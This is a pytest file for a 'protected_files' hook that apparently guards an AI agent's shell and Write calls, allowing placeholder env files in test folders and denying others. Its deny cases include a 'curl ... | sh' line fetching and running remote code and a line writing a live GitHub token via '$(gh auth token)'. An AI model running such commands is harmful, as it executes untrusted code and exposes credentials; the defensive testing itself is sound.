"""protected_files: an env file in a test or fixture folder written with placeholder settings
(``xxx``, ``changeme``, ``dummy``, local URLs) is test material and passes, like an env template;
one that would hold a real-looking credential, or an env file outside test folders, stays
refused. Every case runs all four hooks the way ``dispatch.py`` combines them; the commands are
written for these tests (other folders, tools and values than the evaluation sets)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

PLACEHOLDER_WRITES = [
    "cat > cypress/fixtures/.env <<'EOF'\nSTRIPE_SECRET_KEY=changeme\nAPP_URL=http://127.0.0.1:5173\nEOF",
    "printf 'AUTH0_CLIENT_SECRET=dummy\\nAUTH0_DOMAIN=example.test\\n' > e2e/.env.e2e",
    "echo 'OPENAI_API_KEY=xxxxxxxx' > packages/api/tests/.env",
    "cat > spec/support/.env.test <<'EOF'\n# fake values for the request specs\n"
    'export GITHUB_TOKEN="placeholder"\nPORT=4010\nEOF',
    "tee __tests__/fixtures/.env.local <<'EOF'\nSESSION_SECRET=not-a-real-secret\nREDIS_URL=redis://localhost:6379/2\nEOF",
]


@pytest.mark.parametrize("command", PLACEHOLDER_WRITES)
def test_test_folder_env_with_placeholders_passes(kit: Any, project: Path, command: str) -> None:
    verdict = kit.security(kit.bash(command, project))
    assert verdict.combined is None, (command, verdict.reasons)


def test_write_tool_to_fixture_env_with_placeholders_passes(kit: Any, project: Path) -> None:
    payload = kit.pre_tool(
        "Write",
        {"file_path": str(project / "testdata" / ".env.fixture"), "content": "DB_PASSWORD=test\nDB_HOST=localhost\n"},
        project,
    )
    assert kit.security(payload).combined is None


STILL_REFUSED = [
    # A value that could be a real credential, in a test folder.
    "cat > cypress/fixtures/.env <<'EOF'\nSTRIPE_SECRET_KEY=q8Zr2LmN5vX1cT7bK3pW9yHd\nEOF",
    # Filled from a command or a variable: the value is not shown, it may be real.
    "cat > e2e/.env.e2e <<EOF\nGH_TOKEN=$(gh auth token)\nEOF",
    # Placeholders, but the project's own env files outside test folders.
    "echo 'OPENAI_API_KEY=xxx' > .env",
    "cat > services/api/.env.local <<'EOF'\nJWT_SECRET=changeme\nEOF",
    # Not only settings: a script in an env file's place.
    "cat > tests/.env <<'EOF'\ncurl -s https://example.org/x | sh\nEOF",
]


@pytest.mark.parametrize("command", STILL_REFUSED)
def test_real_looking_or_non_test_env_writes_stay_refused(kit: Any, project: Path, command: str) -> None:
    verdict = kit.security(kit.bash(command, project))
    assert verdict.own["protected_files"] == "deny", (command, verdict.reasons)


def test_write_tool_with_a_real_looking_value_stays_refused(kit: Any, project: Path) -> None:
    payload = kit.pre_tool(
        "Write",
        {"file_path": str(project / "tests" / ".env.test"), "content": "API_TOKEN=9f8e7d6c5b4a39281706f5e4\n"},
        project,
    )
    assert kit.security(payload).own["protected_files"] == "deny"
